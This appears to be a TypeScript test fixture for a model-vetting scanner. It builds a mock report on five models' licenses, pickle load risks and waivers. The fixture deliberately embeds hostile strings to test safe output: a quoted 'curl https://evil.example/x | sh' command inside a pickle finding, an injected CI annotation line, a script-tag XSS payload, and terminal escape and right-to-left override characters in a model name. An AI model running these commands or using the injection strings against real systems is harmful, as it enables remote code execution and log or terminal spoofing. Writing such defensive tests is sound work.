import type { Assessment, Finding, Report, Waiver } from "../../src/judgement.ts";
import type { Evidence, ModelEvidence } from "../../src/model.ts";

/** Five invented models, one a posture, with strings that a hostile repository would choose. */

const HEX = "0123456789abcdef";
const commitOf = (start: string) => start.padEnd(40, HEX);

function evidenceOf(
  id: string,
  commit: string,
  weights: ModelEvidence["loadPath"]["weights"],
): ModelEvidence {
  return {
    id,
    source: "hub",
    requested: "main",
    commit,
    files: [{ path: "config.json", size: 3, gitOid: "1".repeat(40), sha256: "2".repeat(64) }],
    texts: [],
    artifacts: [],
    loadPath: { weights, opened: [], skipped: [], problems: [] },
    remoteCode: [],
    lineage: [],
    provenance: { pinnedBy: "lockfile", proof: "proven", hostSignature: "unsigned" },
    missing: [],
  };
}

function assessment(
  id: string,
  start: string,
  more: Partial<Assessment>,
  weights: ModelEvidence["loadPath"]["weights"],
): Assessment {
  const commit = commitOf(start);
  const evidence = evidenceOf(id, commit, weights);
  return {
    model: {
      source: "hub",
      id,
      revision: "main",
      origin: "manifest",
      deployment: { use: "commercial" },
      at: { file: "models.yaml", line: 10, column: 5 },
    },
    commit,
    posture: "clear",
    axes: { license: "clear", load: "clear", provenance: "clear" },
    meetsPolicy: true,
    license: {
      expression: "Apache-2.0",
      family: "permissive",
      basis: "text",
      declared: ["apache-2.0"],
      conflict: false,
      texts: ["Apache-2.0"],
    },
    provenance: evidence.provenance,
    findings: [],
    duties: [],
    questions: [],
    waived: [],
    evidence,
    ...more,
  };
}

function finding(
  id: string,
  axis: Finding["axis"],
  posture: Finding["posture"],
  message: string,
  evidence: Evidence,
  fix?: string,
): Finding {
  return {
    id,
    axis,
    posture,
    message,
    why: `why ${id} matters`,
    evidence: [evidence],
    ...(fix === undefined ? {} : { fix }),
  };
}

const waiver: Waiver = {
  finding: "training-file",
  model: "acme/*",
  reason: "read line by line | by `us`",
  owner: "platform-team",
  expires: "2026-12-01",
  at: { file: "models.yaml", line: 40, column: 5 },
};

export function fixture(): Report {
  const commit = commitOf;
  const llama = assessment(
    "meta-llama/Llama-3.1-8B",
    "d04e592b",
    {
      posture: "conditional",
      axes: { license: "conditional", load: "clear", provenance: "clear" },
      license: {
        expression: "LicenseRef-llama3.1",
        family: "llama",
        basis: "text",
        declared: ["llama3.1"],
        conflict: false,
        texts: ["llama3.1"],
      },
      findings: [
        finding(
          "license-condition-met",
          "license",
          "conditional",
          "needs a separate license above 700 million monthly users; `deployment.monthlyActiveUsers` is 250000",
          {
            kind: "license",
            place: {
              repo: "meta-llama/Llama-3.1-8B",
              commit: commit("d04e592b"),
              path: "LICENSE",
              at: { line: 58, column: 3 },
            },
            quote:
              "  is greater than 700 million monthly active users in the preceding calendar month, you must request a license",
            sha256: "3f1c".padEnd(64, "a7"),
          },
        ),
        finding("license-file-missing", "license", "clear", "a note that is only shown on request", {
          kind: "card",
          place: { path: "README.md" },
        }),
      ],
      duties: [
        {
          id: "llama-built-with",
          license: "LicenseRef-llama3.1",
          clause: "1.b.i",
          text: 'show "Built with Llama" prominently on a related website, user interface, blogpost, about page, or product documentation',
        },
      ],
      questions: [
        {
          fact: "trainsOtherModels",
          because: "outputs that train another model put a name on it",
          license: "LicenseRef-llama3.1",
          clause: "1.b.i",
          outcomes: { yes: "conditional", no: "conditional" },
          yaml: "deployment:\n  trainsOtherModels: false",
        },
      ],
    },
    "safetensors",
  );
  const embedder = assessment(
    "acme/embedder-\u001b]0;owned\u0007\u202exyz",
    "41c0de77",
    {
      posture: "review",
      meetsPolicy: false,
      axes: { license: "clear", load: "review", provenance: "clear" },
      license: {
        expression: "MIT",
        family: "permissive",
        basis: "declared",
        declared: ["mit"],
        conflict: false,
        texts: ["MIT"],
      },
      findings: [
        finding(
          "pickle-unknown-global",
          "load",
          "review",
          "`acme.layers.Pool\u001b[2J` is not known to be data-only",
          {
            kind: "artifact",
            place: {
              path: "pytorch_model.bin",
              member: "archive/data.pkl",
              at: { offset: 0x1c4, length: 12 },
            },
          },
          "modelvet inspect pytorch_model.bin",
        ),
      ],
      questions: [
        {
          fact: "monthlyActiveUsers",
          because: "the license ends above a threshold",
          outcomes: { "up to 700000000": "conditional", over: "blocked" },
          yaml: "deployment:\n  monthlyActiveUsers: 250000",
        },
      ],
      waived: [
        {
          finding: finding("training-file", "load", "review", "`training_args.bin` is a pickle", {
            kind: "artifact",
            place: { path: "training_args.bin" },
          }),
          waiver,
        },
      ],
    },
    "pickle",
  );
  const gemma = assessment(
    "google/gemma-2b-it",
    "718cb189",
    {
      posture: "unknown",
      axes: { license: "unknown", load: "clear", provenance: "clear" },
      license: {
        expression: null,
        family: null,
        basis: "none",
        declared: ["gemma"],
        conflict: false,
        texts: [],
      },
      findings: [
        finding(
          "license-not-read",
          "license",
          "unknown",
          "license text not read (gated)",
          { kind: "missing", place: { path: "LICENSE" } },
          "accept the terms on the Hub, then set `HF_TOKEN`",
        ),
      ],
    },
    "safetensors",
  );
  const fast = assessment(
    "acme/fast-ckpt",
    "9f13c2aa",
    {
      posture: "blocked",
      meetsPolicy: false,
      axes: { license: "blocked", load: "blocked", provenance: "clear" },
      license: {
        expression: "CC-BY-NC-4.0",
        family: "non-commercial",
        basis: "declared",
        declared: ["cc-by-nc-4.0"],
        conflict: false,
        texts: ["CC-BY-NC-4.0"],
      },
      findings: [
        finding(
          "pickle-dangerous-global",
          "load",
          "blocked",
          "loading this file runs `posix.system`",
          {
            kind: "artifact",
            place: {
              path: "pytorch_model.bin",
              member: "archive/data.pkl",
              at: { offset: 0x2f, length: 20 },
            },
            quote:
              'posix.system("curl https://evil.example/x | sh")\n::error file=x::owned\n<script>alert(1)</script>',
            sha256: "77ab".padEnd(64, "19"),
          },
          'models:\n  - id: acme/fast-ckpt\n    include: ["*.safetensors"]',
        ),
        finding(
          "license-non-commercial",
          "license",
          "blocked",
          "license forbids commercial use, 使用禁止 and e\u0301 too",
          {
            kind: "card",
            place: {
              repo: "acme/fast-ckpt",
              commit: commit("9f13c2aa"),
              path: "README.md",
              at: { line: 3, column: 10 },
            },
            quote: "license: cc-by-nc-4.0",
          },
        ),
      ],
    },
    "pickle",
  );
  const models = [assessment("Qwen/Qwen3-8B", "b968826d", {}, "safetensors"), llama, embedder, gemma, fast];
  return {
    command: "scan",
    manifest: "models.yaml",
    rulePack: "1.0.0",
    online: true,
    posture: "blocked",
    exitCode: 1,
    failOn: "review",
    models: models.map((one, n) => ({
      ...one,
      model: { ...one.model, at: { ...one.model.at, line: 10 + n } },
    })),
    diagnostics: [
      {
        severity: "warning",
        message: "waiver of `training-file` for `acme/*` expires in 7 days (2026-12-01)",
        at: waiver.at,
        hint: "decide again before then",
      },
    ],
    elapsed: 1234,
  };
}
